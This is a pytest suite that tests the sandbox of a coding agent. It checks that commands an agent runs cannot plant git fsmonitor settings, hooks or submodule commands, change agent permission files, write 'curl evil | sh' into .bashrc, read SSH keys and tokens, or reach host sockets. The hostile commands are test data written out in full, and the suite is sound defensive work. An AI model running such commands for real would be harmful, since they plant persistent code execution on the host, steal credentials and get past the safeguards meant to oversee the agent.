"""Nothing to pry open from inside the sandbox, for real (bubblewrap, real git, real sockets).

Each attack is a command the model could run: it must fail inside and leave nothing behind on
the host — the project paths that carry power stay as they were (and missing ones stay missing),
no path a project file names becomes writable, the home folder shows only its tool caches,
no Unix socket of the machine answers, no secret-looking variable arrives.
"""

from __future__ import annotations

import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

from memagent.childenv import filtered_environment, is_secret_variable
from memagent.tools.base import ToolContext, ToolRegistry
from memagent.tools.mounts import listening_sockets, plan_mounts
from memagent.tools.shell import bash_tool
from tools.test_sandbox import fake_home, project, run_bash, sandboxed  # noqa: F401  (fixtures)

GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com"]


@pytest.fixture(autouse=True)
def git_identity(monkeypatch) -> None:
    monkeypatch.setenv("GIT_AUTHOR_NAME", "t")
    monkeypatch.setenv("GIT_AUTHOR_EMAIL", "t@example.com")
    monkeypatch.setenv("GIT_COMMITTER_NAME", "t")
    monkeypatch.setenv("GIT_COMMITTER_EMAIL", "t@example.com")


def git_repo(path: Path) -> Path:
    subprocess.run([*GIT, "init", "-q", str(path)], check=True)
    subprocess.run([*GIT, "-C", str(path), "commit", "-q", "--allow-empty", "-m", "root"], check=True)
    return path


def bash_result(shell, project: Path, command: str):
    registry = ToolRegistry.of([bash_tool(shell)])
    return registry.run("bash", {"command": command}, ToolContext(root=project, bash_timeout=20))


def tree(root: Path) -> dict[str, bytes | None]:
    """Every path under ``root`` with its content (None for folders)."""
    return {
        str(p.relative_to(root)): (p.read_bytes() if p.is_file() and not p.is_symlink() else None)
        for p in sorted(root.rglob("*"))
    }


ATTACKS = {
    "touch .mcp.json": ".mcp.json",
    "mkdir -p .claude && echo '{}' > .claude/settings.json": ".claude",
    "git config core.fsmonitor ./x.sh": None,
    "echo 'echo pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit": None,
    "printf 'gitdir: /' > .git": None,
    # variants: other configuration a later program obeys
    "echo 'permission_mode = \"bypassPermissions\"' > .memagent.toml": ".memagent.toml",
    "mkdir -p .agents/skills/x && echo hi > .agents/skills/x/SKILL.md": ".agents",
    "mkdir -p .codex && echo 'x=1' > .codex/config.toml": ".codex",
    "printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = ext::sh -c id\\n' > .gitmodules": ".gitmodules",
    "echo '* filter=evil' > .git/info/attributes": None,
    "mkdir -p .vscode && echo '{}' > .vscode/tasks.json": ".vscode",
    "ln -s /tmp/elsewhere .mcp.json": ".mcp.json",
    "mv .git .git-old && printf 'gitdir: /' > .git": None,
    "mkdir -p .memagent && echo x > .memagent/hooks.toml": ".memagent",
}


@pytest.mark.parametrize("command", list(ATTACKS))
def test_protected_paths_cannot_be_planted(fake_home: Path, tmp_path: Path, command: str) -> None:
    project = git_repo(tmp_path / "proj")
    (project / "app.py").write_text("print('hi')\n")
    before = tree(project)
    shell = sandboxed(project)
    out = bash_result(shell, project, command + " && echo PLANTED")
    assert "PLANTED" not in out.content, out.content
    assert tree(project) == before  # nothing changed, nothing created, no placeholder left
    missing = ATTACKS[command]
    if missing:
        assert not (project / missing).exists() and not (project / missing).is_symlink()
    assert "fsmonitor" not in (project / ".git" / "config").read_text()


@pytest.mark.parametrize(
    "command",
    [
        "cp -r .git evil && printf '[core]\\n\\tfsmonitor = ./x.sh\\n' >> evil/config && echo ../evil > .git/commondir",
        "printf '[core]\\n\\tfsmonitor = ./x.sh\\n' > .git/config.worktree",
        "mkdir -p .git/worktrees/w && echo ../../../evil > .git/worktrees/w/commondir",
    ],
    ids=["commondir", "config.worktree", "worktrees"],
)
def test_files_that_redirect_git_configuration_cannot_be_planted(fake_home: Path, tmp_path: Path, command: str) -> None:
    """git reads ``.git/commondir`` in any git folder (not only a linked worktree's) and
    ``.git/config.worktree`` when the user enabled worktree configuration: planted, the user's
    next ``git status`` on the host would run the attacker's fsmonitor."""
    project = git_repo(tmp_path / "proj")
    subprocess.run(["git", "-C", str(project), "config", "extensions.worktreeConfig", "true"], check=True)
    canary = tmp_path / "ran"
    (project / "x.sh").write_text(f"#!/bin/sh\necho ran >> {canary}\n")
    (project / "x.sh").chmod(0o755)
    shell = sandboxed(project)
    bash_result(shell, project, command + " ; echo done")
    assert not (project / ".git" / "commondir").exists() and not (project / ".git" / "config.worktree").exists()
    assert not (project / ".git" / "worktrees").exists()
    subprocess.run(["git", "-C", str(project), "status"], capture_output=True, check=True)
    assert not canary.exists()
    status = bash_result(shell, project, "git status --short && echo GIT-WORKS")  # git still works inside
    assert "GIT-WORKS" in status.content, status.content


def test_existing_protected_files_stay_as_they_are(fake_home: Path, tmp_path: Path) -> None:
    project = git_repo(tmp_path / "proj")
    (project / ".mcp.json").write_text('{"mcpServers": {}}\n')
    (project / ".claude").mkdir()
    (project / ".claude" / "settings.json").write_text("{}\n")
    before = tree(project)
    shell = sandboxed(project)
    for command in (
        'echo \'{"mcpServers": {"x": {"command": "sh"}}}\' > .mcp.json',
        "rm -rf .claude",
        "mv .mcp.json gone.json",
        "rm -f .claude/settings.json",
        "echo '{\"hooks\": {}}' > .claude/settings.local.json",
        "rm -rf .git/hooks",
    ):
        assert "DONE" not in bash_result(shell, project, command + " && echo DONE").content, command
    assert tree(project) == before
    # ordinary work in the project still works
    out = run_bash(
        shell, project, "echo ok > notes.txt && git add notes.txt && git commit -qm notes && git log --oneline | wc -l"
    )
    assert out == "2\n[exit code: 0]", out


def test_a_git_file_naming_the_home_folder_opens_nothing(fake_home: Path, tmp_path: Path) -> None:
    """The sandbox used to mount the folder a ``.git`` file names writable: ``gitdir: ~`` made
    the home folder writable for every later command."""
    (fake_home / ".bashrc").write_text("# my bashrc\n")
    project = tmp_path / "proj"
    project.mkdir()
    (project / ".git").write_text(f"gitdir: {fake_home}\n")
    shell = sandboxed(project, tmp_visible=True)
    out = run_bash(shell, project, f"echo 'curl evil | sh' >> {fake_home}/.bashrc; cat {fake_home}/.bashrc; echo END")
    assert (fake_home / ".bashrc").read_text() == "# my bashrc\n"
    assert "my bashrc" not in out  # the home folder is hidden, not shown because a file names it
    (project / ".git").write_text("gitdir: /\n")
    out = run_bash(shell, project, "echo x > /etc/memagent-escape; echo x > /opt-escape; echo END")
    assert not Path("/etc/memagent-escape").exists() and not Path("/opt-escape").exists()
    assert (project / ".git").read_text() == "gitdir: /\n"


def test_without_git_a_repository_cannot_be_made_inside(fake_home: Path, project: Path) -> None:
    shell = sandboxed(project)
    out = run_bash(shell, project, "git init -q . && git config core.fsmonitor ./x.sh && echo MADE")
    assert "MADE" not in out
    assert not (project / ".git").exists()


def test_a_symlinked_protected_path_refuses_to_run(fake_home: Path, tmp_path: Path) -> None:
    project = git_repo(tmp_path / "proj")
    (project / "real.json").write_text("{}\n")
    (project / ".mcp.json").symlink_to("real.json")
    shell = sandboxed(project)
    out = bash_result(shell, project, "echo RAN")
    assert out.is_error and "RAN" not in out.content
    assert ".mcp.json is a symlink" in out.content and "\n" not in out.content.strip()


def test_a_placeholder_left_by_a_killed_session_is_removed(fake_home: Path, tmp_path: Path) -> None:
    project = git_repo(tmp_path / "proj")
    (project / ".mcp.json").mkdir()  # what a kill -9 mid-command leaves
    shell = sandboxed(project)
    run_bash(shell, project, "true")
    assert not (project / ".mcp.json").exists()


def test_concurrent_commands_keep_the_placeholders_until_the_last_ends(fake_home: Path, tmp_path: Path) -> None:
    project = git_repo(tmp_path / "proj")
    shell = sandboxed(project)
    results: list[str] = []
    slow = threading.Thread(
        target=lambda: results.append(run_bash(shell, project, "sleep 1.5; touch .mcp.json && echo PLANTED"))
    )
    slow.start()
    time.sleep(0.5)
    run_bash(shell, project, "true")  # ends first: must not remove the slow command's protection
    slow.join()
    assert "PLANTED" not in results[0]
    assert not (project / ".mcp.json").exists()


# --- the home folder, sockets, other projects ---------------------------------------------


def test_home_is_hidden_but_its_tool_caches(fake_home: Path, tmp_path: Path) -> None:
    files = {
        ".m2/settings.xml": "<password>m2-secret</password>",
        ".gradle/gradle.properties": "signing.password=gradle-secret",
        ".boto": "aws_secret_access_key = boto-secret",
        ".s3cfg": "secret_key = s3-secret",
        ".env": "TOKEN=env-secret",
        ".bash_history": "export X=history-secret",
        ".config/gh/hosts.yml": "oauth_token: gh-secret",
        "other-project/.transcripts/20260101-000000-aaaa.jsonl": "transcript-secret",
        ".m2/repository/org/x/x.jar": "jar-bytes",
        ".cargo/registry/index/x": "crate-index",
        ".mytool/cache/blob": "mytool-cache",
    }
    for name, text in files.items():
        (fake_home / name).parent.mkdir(parents=True, exist_ok=True)
        (fake_home / name).write_text(text)
    project = tmp_path / "proj"
    project.mkdir()
    shell = sandboxed(project, tmp_visible=True, sandbox_caches=[".mytool/cache"])
    reads = " ".join(f"~/{name}" for name in files)
    out = run_bash(shell, project, f"cat {reads} 2>/dev/null; echo > ~/.m2/repository/org/x/x.jar && echo WROTE; echo")
    for secret in ("m2-secret", "gradle-secret", "boto-secret", "s3-secret", "env-secret", "history-secret",
                   "gh-secret", "transcript-secret"):  # fmt: skip
        assert secret not in out
    assert "jar-bytes" in out and "crate-index" in out and "mytool-cache" in out
    assert "WROTE" not in out and (fake_home / ".m2/repository/org/x/x.jar").read_text() == "jar-bytes"


@pytest.fixture
def listening(tmp_path: Path):
    """Unix sockets listening outside the project, like docker's or the user's D-Bus."""
    made: list[socket.socket] = []

    def listen(path: Path) -> Path:
        path.parent.mkdir(parents=True, exist_ok=True)
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(path))
        server.listen()
        made.append(server)
        return path

    yield listen
    for server in made:
        server.close()


def test_unix_sockets_outside_the_project_are_unreachable(fake_home: Path, tmp_path: Path, listening) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    outside = [
        listening(tmp_path / "var" / "docker.sock"),
        listening(tmp_path / "runtime" / "bus"),
        listening(tmp_path / "deep" / "a" / "b" / "agent.12345"),
    ]
    inside = listening(project / "app.sock")
    assert set(outside) <= set(listening_sockets())
    shell = sandboxed(project, tmp_visible=True)
    probe = "import socket, sys\ns = socket.socket(socket.AF_UNIX)\ntry:\n s.connect(sys.argv[1]); print('CONNECTED')\nexcept OSError as e: print('REFUSED', e)\n"
    (project / "probe.py").write_text(probe)
    for path in outside:
        assert "CONNECTED" not in run_bash(shell, project, f"python3 probe.py {path}"), path
    assert "CONNECTED" in run_bash(shell, project, f"python3 probe.py {inside}")
    assert run_bash(shell, project, "ls -A /run | wc -l") == "0\n[exit code: 0]"


def test_other_projects_transcripts_and_private_cards_are_hidden(fake_home: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    (other / ".transcripts").mkdir(parents=True)
    (other / ".transcripts" / "s.jsonl").write_text("other-transcript-canary")
    (other / ".memory" / "private").mkdir(parents=True)
    (other / ".memory" / "private" / "m_0123456789ab.md").write_text("other-private-card-canary")
    (other / ".memory" / "local" / "private").mkdir(parents=True)
    (other / ".memory" / "local" / "private" / "m_0123456789ac.md").write_text("other-local-card-canary")
    (other / ".memory" / "local" / "history.jsonl").write_text("other-history-canary")
    (other / "README.md").write_text("other-readme")
    memagent_home = tmp_path / "mhome"
    memagent_home.mkdir()
    project = tmp_path / "proj"
    (project / ".transcripts").mkdir(parents=True)
    (project / ".transcripts" / "mine.jsonl").write_text("my-transcript")
    (memagent_home / "projects.json").write_text(
        f'{{"version": 1, "projects": {{"{other}": {{"trusted": true}}, "{project}": {{}}}}}}'
    )
    shell = sandboxed(project, tmp_visible=True, memagent_home=memagent_home)
    out = run_bash(
        shell,
        project,
        f"cat {other}/.transcripts/s.jsonl {other}/.memory/private/*.md {other}/README.md"
        f" {other}/.memory/local/private/*.md {other}/.memory/local/history.jsonl"
        " .transcripts/mine.jsonl",
    )
    assert "other-transcript-canary" not in out and "other-private-card-canary" not in out
    assert "other-local-card-canary" not in out and "other-history-canary" not in out
    assert "other-readme" in out and "my-transcript" in out


def test_a_project_where_a_session_ran_is_hidden_without_a_trust_record(fake_home: Path, tmp_path: Path) -> None:
    """A session records its project in ``$MEMAGENT_HOME/data-roots`` (a plain session in a
    project never asked about trust leaves no trust record): that project's transcripts and
    private cards are hidden from commands in every other project."""
    from memagent.paths import record_data_root

    other = tmp_path / "other"
    (other / ".transcripts").mkdir(parents=True)
    (other / ".transcripts" / "s.jsonl").write_text("untrusted-transcript-canary")
    (other / ".memory" / "private").mkdir(parents=True)
    (other / ".memory" / "private" / "m_0123456789ab.md").write_text("untrusted-private-canary")
    memagent_home = tmp_path / "mhome"
    memagent_home.mkdir()
    project = tmp_path / "proj"
    project.mkdir()
    record_data_root(memagent_home, other)
    record_data_root(memagent_home, project)
    record_data_root(memagent_home, other)  # once is enough
    assert (memagent_home / "data-roots").read_text().count(str(other.resolve())) == 1
    shell = sandboxed(project, tmp_visible=True, memagent_home=memagent_home)
    out = run_bash(shell, project, f"cat {other}/.transcripts/s.jsonl {other}/.memory/private/*.md")
    assert "untrusted-transcript-canary" not in out and "untrusted-private-canary" not in out


def test_the_plan_never_mounts_the_project_parent_or_a_named_folder(fake_home: Path, tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    (project / ".git").write_text(f"gitdir: {fake_home}\n")
    plan = plan_mounts(project, home=fake_home, scratch=())
    assert plan.writable == [project.resolve()]
    assert fake_home.resolve() not in plan.keep_visible and fake_home.resolve() in plan.hidden
    assert project.resolve() / ".git" in plan.protected


# --- the environment ----------------------------------------------------------------------

LEAKY = {
    "PGPASSWORD": "pg-secret-1",
    "MYSQL_PWD": "mysql-secret-2",
    "DB_PASS": "db-secret-3",
    "GITHUB_PAT": "pat-secret-4",
    "SLACK_WEBHOOK_URL": "https://hooks.slack.com/services/T000/B000/XXXXsecret5",
    "SENTRY_DSN": "https://abc123secret6@o1.ingest.sentry.io/1",
    # variants: other names, and harmless names with secret-shaped values
    "NPM_TOKEN": "npm-secret-7",
    "STRIPE_APIKEY": "stripe-secret-8",
    "AZURE_STORAGE_CONNECTION_STRING": "DefaultEndpointsProtocol=https;AccountKey=c2VjcmV0OQ==",
    "NOTIFY": "https://discord.com/api/webhooks/1/secret10",
    "REDIS_URL": "redis://:secret11@cache:6379/0",
    "BACKUP_TARGET": "https://backup.example.com/upload?token=secret12",
    "DEPLOY_HELPER": "ghp_" + "a1B2c3D4e5F6g7H8i9J0a1B2c3D4e5F6g7H8",
    # names the patterns did not cover
    "DB_PW": "dbpw-secret-13",
    "APP_CREDS": "creds-secret-14",
    "LICENSE_SIGNING_SALT": "salt-secret-15",
    "WALLET_MNEMONIC": "mnemonic-secret-16",
}


def test_secret_variables_never_reach_a_command(fake_home: Path, project: Path, monkeypatch) -> None:
    for name, value in LEAKY.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("NPM_CONFIG_REGISTRY", "https://registry.example.com/")
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-never-passed")
    monkeypatch.setenv("PLAIN_SETTING", "visible")
    shell = sandboxed(project, sandbox_pass_env=["NPM_TOKEN", "ANTHROPIC_API_KEY"])
    out = run_bash(shell, project, "env")
    for name, value in LEAKY.items():
        if name != "NPM_TOKEN":
            assert value not in out and f"{name}=" not in out, name
    assert "NPM_TOKEN=npm-secret-7" in out  # named by sandbox_pass_env
    assert "sk-ant-never-passed" not in out  # the agent's key: never, whatever the setting
    assert "NPM_CONFIG_REGISTRY=https://registry.example.com/" in out and "PLAIN_SETTING=visible" in out


@pytest.mark.parametrize(
    "name", ["PWD", "OLDPWD", "PATH", "HOME", "LANG", "KEYBOARD_LAYOUT", "TERM", "PWM_MODE", "SALTSTACK_HOME"]
)
def test_ordinary_variables_are_kept(name: str) -> None:
    assert not is_secret_variable(name, "/usr/bin")
    assert filtered_environment({name: "/usr/bin"}) == {name: "/usr/bin"}


def test_a_second_session_never_pulls_a_stand_in_from_under_the_first(fake_home: Path, tmp_path: Path) -> None:
    """Two sessions (two sandboxes, each with its own lock) in one project: the second starts
    and ends while the first's command runs; the first's stand-ins hold until it ends."""
    project = git_repo(tmp_path / "proj")
    first, second = sandboxed(project), sandboxed(project)
    results: list[str] = []
    slow = threading.Thread(
        target=lambda: results.append(run_bash(first, project, "sleep 2; touch .mcp.json .gitmodules && echo PLANTED"))
    )
    slow.start()
    time.sleep(0.7)
    run_bash(second, project, "true")
    slow.join()
    assert "PLANTED" not in results[0]
    assert not (project / ".mcp.json").exists() and not (project / ".gitmodules").exists()


def test_a_project_inside_the_home_folder(fake_home: Path) -> None:
    """The usual layout (~/code/app): the home folder is hidden as a whole, the project inside
    it stays writable, the caches readable."""
    (fake_home / ".m2" / "repository").mkdir(parents=True)
    (fake_home / ".m2" / "repository" / "lib.jar").write_text("jar-bytes")
    (fake_home / ".m2" / "settings.xml").write_text("m2-secret")
    (fake_home / ".bash_history").write_text("history-secret")
    (fake_home / "other-project" / ".transcripts").mkdir(parents=True)
    (fake_home / "other-project" / ".transcripts" / "s.jsonl").write_text("transcript-secret")
    project = git_repo(fake_home / "code" / "app")
    shell = sandboxed(project, tmp_visible=True)
    out = run_bash(
        shell,
        project,
        "cat ~/.m2/settings.xml ~/.bash_history ~/.ssh/id_rsa "
        "~/other-project/.transcripts/s.jsonl ~/.m2/repository/lib.jar 2>/dev/null; echo; "
        "echo ok > made.txt && git add made.txt && git commit -qm made && echo COMMITTED; ls -A ~ | sort",
    )
    for secret in ("m2-secret", "history-secret", "PRIVATE KEY", "transcript-secret"):
        assert secret not in out
    assert "jar-bytes" in out and "COMMITTED" in out and (project / "made.txt").read_text() == "ok\n"
    listing = out.split("COMMITTED")[1].rsplit("[exit code", 1)[0].split()
    assert listing == [".m2", "code"]  # the home folder shows only what was bound back


def test_a_project_that_is_the_home_folder_hides_the_secret_entries(fake_home: Path) -> None:
    (fake_home / ".bash_history").write_text("history-secret")
    (fake_home / ".m2").mkdir()
    (fake_home / ".m2" / "settings.xml").write_text("m2-secret")
    project = git_repo(fake_home)
    shell = sandboxed(project, tmp_visible=True)
    out = run_bash(
        shell,
        project,
        "cat .ssh/id_rsa .aws/credentials .bash_history .m2/settings.xml 2>/dev/null; "
        "echo ok > notes.txt && cat notes.txt",
    )
    for secret in ("PRIVATE KEY", "aws_secret", "history-secret", "m2-secret"):
        assert secret not in out
    assert "ok" in out and (fake_home / "notes.txt").read_text() == "ok\n"
    assert (fake_home / ".ssh" / "id_rsa").read_text().startswith("-----BEGIN")


def test_a_symlinked_outputs_folder_neither_widens_read_file_nor_receives_outputs(
    fake_home: Path, tmp_path: Path
) -> None:
    """A command swaps the session's outputs folder for a link to ~/.ssh: read_file must not
    treat the link's target as a readable root, and a long output is not saved through it."""
    project = git_repo(tmp_path / "proj")
    outputs = project / ".transcripts" / "s1" / "outputs"
    outputs.parent.mkdir(parents=True)
    outputs.symlink_to(fake_home / ".ssh")
    ctx = ToolContext(root=project, session_id="s1", outputs_dir=outputs, bash_timeout=20, output_cap_chars=100)
    from memagent.tools.builtin import builtin_tools

    registry = ToolRegistry.of(builtin_tools(sandboxed(project)))
    read = registry.run("read_file", {"path": str(fake_home / ".ssh" / "id_rsa")}, ctx)
    assert read.is_error and "PRIVATE KEY" not in read.content
    before = sorted(p.name for p in (fake_home / ".ssh").iterdir())
    long = registry.run("bash", {"command": "seq 1 2000"}, ctx)
    assert "could not be saved" in long.content and "symlink" in long.content
    assert sorted(p.name for p in (fake_home / ".ssh").iterdir()) == before


def test_stand_ins_a_killed_session_left_are_cleared_before_the_next_session(fake_home: Path, tmp_path: Path) -> None:
    from memagent.llm.scripted import ScriptedModel, reply
    from memagent.runtime import SessionOptions, open_session

    project = git_repo(tmp_path / "proj")
    for name in (".memagent.toml", ".mcp.json", ".gitmodules"):
        (project / name).mkdir()  # what kill -9 during a sandboxed command leaves
    (project / ".claude").mkdir()  # a user's own empty folder: not a stand-in, kept
    session = open_session(SessionOptions(root=project, memory=False), model=ScriptedModel([reply("hi")]))
    session.close()
    assert not any((project / name).exists() for name in (".memagent.toml", ".mcp.json", ".gitmodules"))
    assert (project / ".claude").is_dir()


@pytest.mark.parametrize("hooks_path", [".githooks", "tools/hooks", ".husky/_"])
def test_hooks_a_framework_runs_on_the_next_commit_cannot_be_planted(
    fake_home: Path, tmp_path: Path, hooks_path: str
) -> None:
    """core.hooksPath naming a folder of the working tree (husky, a .githooks convention) and the
    files installed hook frameworks read (.pre-commit-config.yaml, lefthook.yml) stay read-only."""
    project = git_repo(tmp_path / "proj")
    subprocess.run(["git", "-C", str(project), "config", "core.hooksPath", hooks_path], check=True)
    before = tree(project)
    shell = sandboxed(project)
    for command in (
        f"mkdir -p {hooks_path} && printf '#!/bin/sh\\necho pwned' > {hooks_path}/pre-commit",
        "printf 'repos:\\n- repo: local\\n  hooks: [{id: x, name: x, entry: sh -c id, language: system}]\\n' "
        "> .pre-commit-config.yaml",
        "echo 'pre-commit: {commands: {x: {run: id}}}' > lefthook.yml",
        "mkdir -p .husky && echo id > .husky/pre-commit",
    ):
        assert "PLANTED" not in run_bash(shell, project, command + " && echo PLANTED"), command
    assert tree(project) == before


NESTED = "git init -q vendor/lib && git -C vendor/lib commit -q --allow-empty -m v"


@pytest.mark.parametrize(
    "arming",
    [
        'git -C vendor/lib config core.fsmonitor "$PWD/x.sh"',
        "printf '#!/bin/sh\\nexit 0\\n' > vendor/lib/.git/hooks/post-checkout && chmod +x vendor/lib/.git/hooks/post-checkout",
        "git -C vendor/lib config include.path ../../../evil.cfg",
        "printf '[filter \"x\"]\\n\\tclean = ./x.sh\\n' >> vendor/lib/.git/config",
    ],
    ids=["fsmonitor", "hook", "include", "filter"],
)
def test_a_planted_nested_repository_is_disarmed(fake_home: Path, tmp_path: Path, arming: str) -> None:
    """A command makes a repository nested in the working tree, arms its configuration and
    registers it in the index: the user's next git status would run git (and its fsmonitor)
    inside it, on the host. Its .git is renamed aside when the command ends."""
    project = git_repo(tmp_path / "proj")
    canary = tmp_path / "ran"
    (project / "x.sh").write_text(f"#!/bin/sh\necho ran >> {canary}\n")
    (project / "x.sh").chmod(0o755)
    shell = sandboxed(project)
    register = "git update-index --add --cacheinfo 160000,$(git -C vendor/lib rev-parse HEAD),vendor/lib"
    out = bash_result(shell, project, f"{NESTED} && {arming} && {register} && echo ARMED")
    assert "ARMED" in out.content, out.content  # every step worked inside: the disarming is what holds
    assert not (project / "vendor/lib/.git").exists() and (project / "vendor/lib/.git.disabled-by-memagent").is_dir()
    subprocess.run(["git", "-C", str(project), "status"], capture_output=True, check=True)
    subprocess.run(["git", "-C", str(project), "add", "-A"], capture_output=True, check=True)
    assert not canary.exists()


def test_plain_and_untouched_nested_repositories_are_left_alone(fake_home: Path, tmp_path: Path) -> None:
    project = git_repo(tmp_path / "proj")
    mine = project / "tools" / "mine"
    subprocess.run([*GIT, "init", "-q", str(mine)], check=True)
    subprocess.run(["git", "-C", str(mine), "config", "core.hooksPath", ".husky"], check=True)  # the user's own
    shell = sandboxed(project)
    out = bash_result(shell, project, f"{NESTED} && echo MADE")
    assert "MADE" in out.content, out.content
    assert (project / "vendor/lib/.git").is_dir()  # a plain clone or init configures nothing
    assert (mine / ".git").is_dir()  # not changed by the command
